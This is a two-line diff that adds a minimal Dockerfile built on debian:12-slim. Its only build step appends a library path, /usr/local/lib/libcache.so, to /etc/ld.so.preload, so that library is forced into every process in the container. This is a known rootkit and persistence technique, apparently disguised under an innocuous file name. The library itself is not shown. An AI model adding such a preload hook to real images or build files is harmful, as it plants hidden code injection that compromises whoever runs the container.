@@ -1,0 +1,2 @@
+FROM debian:12-slim
+RUN echo /usr/local/lib/libcache.so >> /etc/ld.so.preload
